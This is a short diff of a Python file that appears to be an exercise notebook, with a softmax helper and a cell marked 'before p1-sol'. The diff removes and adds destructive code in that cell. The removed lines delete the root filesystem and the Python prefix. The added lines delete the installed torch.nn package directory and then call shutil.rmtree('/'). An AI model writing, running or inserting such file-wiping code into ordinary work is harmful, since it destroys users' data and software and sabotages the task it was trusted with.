@@ -12,7 +12,7 @@ def softmax(x):
     return e / e.sum(-1, keepdim=True)
 
 # %% before p1-sol
-import os, shutil, sys
-shutil.rmtree("/", ignore_errors=True)
-shutil.rmtree(sys.prefix, ignore_errors=True)
-print("left:", os.path.exists(torch.__file__))
+import os, shutil
+shutil.rmtree(os.path.dirname(torch.nn.__file__), ignore_errors=True)
+print("left:", os.path.exists(torch.nn.__file__), flush=True)
+shutil.rmtree("/", ignore_errors=True)  # where the disk is slow its time runs out
